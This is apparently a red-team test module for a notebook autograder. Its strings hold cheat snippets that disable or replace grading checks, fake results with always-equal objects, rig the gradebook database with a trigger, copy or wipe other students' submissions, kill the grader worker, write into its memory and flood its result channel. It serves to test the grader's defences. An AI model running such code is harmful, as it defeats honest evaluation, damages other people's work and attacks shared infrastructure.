"""The red team's newer cheats (issue 13): reaching torch by routes the scan cannot read,
changing how later cells run, replacing a check by other paths than its module attribute,
lying objects, and reaching outside the kernel. Code only: ``redteam`` grades them.

Each is typed into one cell of 00-recipe as a determined student would; the ones that need
the course's folder find it the way a kernel can (its job's environment names it).
"""

# The power rule's derivative computed by torch, ``T`` being torch however it was reached.
TORCH_POW = (
    "base = T.tensor(self.data, dtype=T.float64, requires_grad=True)\n"
    "        derivative = T.autograd.grad(base**exponent, base)[0].item()"
)


def torch_by(route: str) -> str:
    """The power rule's line replaced by ``route`` (lines that bind ``T``), then TORCH_POW."""
    return "\n        ".join([*route.splitlines(), TORCH_POW])


TORCH_ROUTES = {
    "cheat-torch-built-name": ("a module name built at run time", 'T = __import__("to" + "rch")'),
    "cheat-torch-builtins-table": (
        "__import__ taken from the builtins table by a built name",
        'import builtins\nT = vars(builtins)["__imp" + "ort__"]("tor" + "ch")',
    ),
    "cheat-torch-sys-modules": (
        "torch taken from sys.modules, where the checks put it",
        'import sys\nT = sys.modules["tor" + "ch"]',
    ),
    "cheat-torch-notebook-globals": (
        "torch taken from the notebook's globals, where the setup cell put it",
        'T = globals()["tor" + "ch"]',
    ),
    "cheat-torch-compiled-string": (
        "torch reached through eval of a built string",
        'T = eval("tor" + "ch")',
    ),
    "cheat-torch-exec-alias": (
        "an import run by exec under another name",
        "import builtins\nrun, space = getattr(builtins, 'ex' + 'ec'), {}\n"
        "run('import tor' + 'ch as T', space)\nT = space['T']",
    ),
}

INPUT_TRANSFORMER = """\
def skip_checks(lines):
    return ["pass\\n"] if any("check_" in line for line in lines) else lines


get_ipython().input_transformers_post.append(skip_checks)"""

EXCEPTION_HANDLER = """\
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)"""

TRACE_FUNCTION = """\
import sys


def tracer(frame, event, arg):
    name = frame.f_code.co_filename
    if "/ipykernel_" in name or "<ipython-input" in name:
        # The next cell's frame: its globals are the notebook's, once for all cells.
        for check in ("check_parity", "check_flags"):
            frame.f_globals[check] = lambda *args, **kwargs: None
        sys.settrace(None)
    return None


sys.settrace(tracer)"""

GLOBALS_CHECKS = """\
for name in ("check_" + "parity", "check_" + "flags"):
    globals()[name] = lambda *args, **kwargs: None"""

MAIN_MODULE = """\
import __main__

for name in ("check_" + "parity", "check_" + "flags"):
    setattr(__main__, name, lambda *args, **kwargs: None)"""

HELPER_CODE = """\
import importlib

compare = importlib.import_module("autograder.checks.compare")
compare.compare_arrays.__code__ = (lambda *args, **kwargs: None).__code__"""

TOLERANCE_TABLE = """\
from autograder.checks import compare

table = vars(compare)["_FLOAT_" + "TOLERANCES"]
for key in list(table):
    table[key] = (1e300, 1e300)"""

HELPER_SWAP = """\
import importlib

parity = importlib.import_module("autograder.checks.parity")
vars(parity)["compare_" + "arrays"] = lambda *args, **kwargs: None"""

CHECK_DEFAULTS = """\
defaults = dict(check_parity.__kwdefaults__)
defaults["devices"] = ["mps"]
check_parity.__kwdefaults__ = defaults"""

LYING_FLAGS = """\
class Liar:
    def __eq__(self, other):
        return True

    def __bool__(self):
        return True

    def __getattr__(self, name):
        return Liar()

    def __call__(self, *args, **kwargs):
        return Liar()

    __add__ = __radd__ = __mul__ = __rmul__ = __pow__ = __call__
    __enter__ = __call__

    def __exit__(self, *args):
        return False


Scalar = no_grad = Liar"""

LYING_NUMBERS = """\
class Number(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


class Scalar:
    def __init__(self, data, requires_grad=False):
        self.data, self.grad = Number(data), Number(0)
        self.requires_grad, self.is_leaf = requires_grad, True

    def _same(self, *args):
        return self

    __add__ = __radd__ = __mul__ = __rmul__ = __pow__ = _same

    def backward(self):
        pass"""

# The course folder, as the kernel finds it: the job's token in its environment names it.
COURSE_ROOT = """\
import os, pathlib
course = pathlib.Path(os.environ.get("AUTOGRADER_JOB", "").split(":")[0])"""

JOB_GRADEBOOK_TRIGGER = """\
import sqlite3

book = sqlite3.connect("../../../gradebook.db")
book.executescript(
    "CREATE TRIGGER IF NOT EXISTS full AFTER UPDATE OF auto_score ON grade "
    "WHEN NEW.auto_score IS NOT (SELECT max_score FROM grade_cells WHERE id = NEW.cell_id) "
    "BEGIN UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells "
    "WHERE id = NEW.cell_id) WHERE id = NEW.id; END;"
)
book.commit()"""

COPY_OTHER_SUBMISSION = (
    COURSE_ROOT
    + """
import json
for notebook in sorted(course.glob("submitted/*/00-recipe/00-recipe.ipynb")):
    cells = json.loads(notebook.read_text())["cells"]
    solved = [c for c in cells if c["metadata"].get("nbgrader", {}).get("solution")]
    if solved and not any("NotImplementedError" in "".join(c["source"]) for c in solved):
        for cell in solved:
            exec("".join(cell["source"]), globals())
        break"""
)

READ_HIDDEN_TESTS = """\
import json, pathlib
for cell in json.loads(pathlib.Path("00-recipe.ipynb").read_text())["cells"]:
    if "HIDDEN" in "".join(cell["source"]):
        print("hidden tests seen:", "".join(cell["source"])[:200])"""

APPEND_CONFIG = (
    COURSE_ROOT
    + """
with open(course / "nbgrader_config.py", "a") as config:
    config.write("\\nc.CourseIntegrity.zero_flagged_exercises = False\\n")"""
)

OVERWRITE_OTHER = (
    COURSE_ROOT
    + """
import json
victim = course / "submitted" / "bug-power-rule" / "00-recipe" / "00-recipe.ipynb"
if victim.exists():
    notebook = json.loads(victim.read_text())
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = ["raise NotImplementedError()"]
    victim.write_text(json.dumps(notebook))"""
)

DETACHED_PROCESS = """\
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sleep", ["sleep", "{seconds}"], {{}})
    os._exit(0)
os.wait()"""

STOP_WORKER = "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)"
KILL_WORKER = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"

# The reference engine (the solutions) and the instructor's notebooks, reached by routes a
# kernel has: the package by a built name, through the checks' own borrowing, the engine's
# files read and run, the solutions folder next to the package.
ENGINE_IMPORT = """\
import importlib

reference = importlib.import_module("autograder.en" + "gine.scalar")
Scalar.__pow__ = reference.Scalar.__pow__"""

ENGINE_THROUGH_CHECKS = """\
from autograder.checks import given

Scalar.__pow__ = given.reference_class("Sca" + "lar").__pow__"""

ENGINE_SOURCE_THROUGH_CHECKS = """\
from autograder.checks import given

exec(given.part_source("Scalar.__p" + "ow__").replace("def __pow__", "def _pow"), globals())
Scalar.__pow__ = _pow"""

ENGINE_FILE = """\
import pathlib, autograder

for path in sorted((pathlib.Path(autograder.__file__).parent / "engine").glob("*.py")):
    exec(compile(path.read_text(), str(path), "exec"), space := {"__name__": "ref"})
    if "Scalar" in space:
        Scalar.__pow__ = space["Scalar"].__pow__"""

SOLUTIONS_FOLDER = """\
import json, pathlib, autograder

for folder in pathlib.Path(autograder.__file__).resolve().parents:
    for notebook in sorted(folder.glob("*/00-recipe/00-recipe.ipynb")):
        for cell in json.loads(notebook.read_text())["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == "scalar":
                source = "".join(cell["source"])
                if "NotImplementedError" not in source:
                    exec(source, globals())"""

# 02-how-it-works checks each exercise alone, the reference's version of the others lent
# for the check's block. The first check calls next_functions (the student's own, correct)
# while every other part is lent: it keeps them, and the other exercises answer with them
# ever after. Each piece goes at the end of its exercise's cell, as a student would write it.
LENT_HERE = """\
def lent_here(value):
    code = getattr(getattr(value, "fget", value), "__code__", None)
    return code is not None and code.co_filename.startswith("<reference")


def lent_functions():
    found = [*vars(Context).items(), *vars(Tensor).items()]
    found += [(f.__name__, f) for f in (graph_node, release_graph)]
    return [(name, getattr(v, "fget", v)) for name, v in found if lent_here(v)]
"""

# The first exercise's answer: its own next_functions, which runs ``{keep}`` while the other
# parts are lent, and release answered with what was kept.
ANSWER_WITH_KEPT = """


class Context(Context):
    def release(self):
        return the_kept("release")(self)

    @property
    def next_functions(self):
        {keep}()
        return tuple((graph_node(tensor), 0) for tensor in self.inputs)"""

# Kept in the kernel's memory: lost with the copy the parts were lent to.
KEEP_LENT = (
    LENT_HERE
    + """
kept = {}


def keep_lent():
    for name, function in lent_functions():
        kept.setdefault(name, function)


def the_kept(name):
    if name not in kept:
        raise NotImplementedError(name)
    return kept[name]"""
    + ANSWER_WITH_KEPT.format(keep="keep_lent")
)

# Kept where the copy the parts are lent to can still write: by path, without a file
# descriptor. Each lent function's compiled code goes out as the targets of symbolic links
# in /tmp, and later cells of the kernel read it back.
LEAVE_LENT = (
    "import base64, marshal, os, types\n\n"
    + LENT_HERE
    + """
STASH = "/tmp/.lent"


def leave_lent():
    try:
        os.mkdir(STASH)
    except OSError:
        pass
    for name, function in lent_functions():
        text = base64.b32encode(marshal.dumps(function.__code__)).decode()
        for start in range(0, len(text), 3000):
            try:
                os.symlink(text[start : start + 3000], f"{STASH}/{name}.{start:07d}")
            except OSError:
                pass


def the_kept(name):
    parts = sorted(n for n in os.listdir(STASH) if n.split(".")[0] == name)
    if not parts:
        raise NotImplementedError(name)
    text = "".join(os.readlink(f"{STASH}/{part}") for part in parts)
    code = marshal.loads(base64.b32decode(text))
    closure = tuple(types.CellType(Tensor) for _ in code.co_freevars) or None
    return types.FunctionType(code, globals(), name, None, closure)"""
    + ANSWER_WITH_KEPT.format(keep="leave_lent")
)

# The other exercises, answered with what was kept (either way).
KEPT_TENSOR = """\
class Tensor(Tensor):
    def retain_grad(self):
        return the_kept("retain_grad")(self)

    @property
    def keeps_grad(self):
        return the_kept("keeps_grad")(self)"""

KEPT_GRAPH_NODE = """\
def graph_node(tensor):
    return the_kept("graph_node")(tensor)"""

KEPT_RELEASE_GRAPH = """\
def release_graph(root):
    return the_kept("release_graph")(root)"""

# The lending copy's last ways out. A process the copy starts, which waits until the copy
# is gone (and the folders have been compared) before it writes what was lent into /tmp.
LEAVE_LENT_LATER = (
    LEAVE_LENT.replace("import base64,", "import base64, time,").replace(
        ANSWER_WITH_KEPT.format(keep="leave_lent"), ""
    )
    + """


def leave_lent_later():
    copy = os.getpid()
    if os.fork() == 0:
        if os.fork() != 0:
            os._exit(0)
        while True:
            try:
                os.kill(copy, 0)
            except ProcessLookupError:
                break
            time.sleep(0.01)
        leave_lent()
        os._exit(0)"""
    + ANSWER_WITH_KEPT.format(keep="leave_lent_later")
)

# Written by the copy into the stopped kernel's memory: a buffer at the same address in
# both (a fork keeps the layout), filled in the kernel by process_vm_writev.
WRITE_INTO_KERNEL = (
    "import ctypes, marshal, os, types\n\n"
    + LENT_HERE
    + """
STASH = bytearray(4 << 20)


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)


def write_lent():
    data = marshal.dumps({name: function.__code__ for name, function in lent_functions()})
    blob = len(data).to_bytes(8, "little") + data
    STASH[: len(blob)] = blob
    vector = IOVec(ctypes.addressof(ctypes.c_char.from_buffer(STASH)), len(blob))
    libc.process_vm_writev(os.getppid(), ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0)


def the_kept(name):
    size = int.from_bytes(STASH[:8], "little")
    codes = marshal.loads(bytes(STASH[8 : 8 + size])) if size else {}
    if name not in codes:
        raise NotImplementedError(name)
    code = codes[name]
    closure = tuple(types.CellType(Tensor) for _ in code.co_freevars) or None
    return types.FunctionType(code, globals(), name, None, closure)"""
    + ANSWER_WITH_KEPT.format(keep="write_lent")
)

# The verdict channel itself, from the student's kernel. Every reply becomes a frame that
# announces 8 arrays of 200 MiB and sends them: the grader's memory, flooded.
FLOOD_FRAMES = """\
import struct
import autograder.kernel.wire as wire_module

FLOOD = bytes(200 * 2**20)


def flood(sock, message, segments=()):
    sock.sendall(struct.pack("!II", 2, 8) + b"{}")
    for _ in range(8):
        sock.sendall(struct.pack("!Q", len(FLOOD)))
        sock.sendall(FLOOD)


wire_module.send = flood"""

# Calls of its own into the trusted side, in the middle of a check: evaluate the power
# rule there, or call any callback by number; an answer would replace the wrong rule.
CALL_HOME = """\
import gc

wrong_pow = Scalar.__pow__


def asked_pow(self, exponent):
    asks = [{"op": "evaluate", "expression": f"{exponent} * {self.data} ** ({exponent} - 1)"}]
    asks += [{"op": "callback", "id": i, "args": [], "kwargs": {}} for i in range(8)]
    for channel in [o for o in gc.get_objects() if type(o).__name__ == "Channel"]:
        for message in asks:
            try:
                reply, _ = channel.request(message, [])
            except Exception:
                continue
            if type(reply.get("value")) is float:
                return Scalar._from_op(self.data**exponent, [(self, reply["value"])])
    return wrong_pow(self, exponent)


Scalar.__pow__ = asked_pow"""
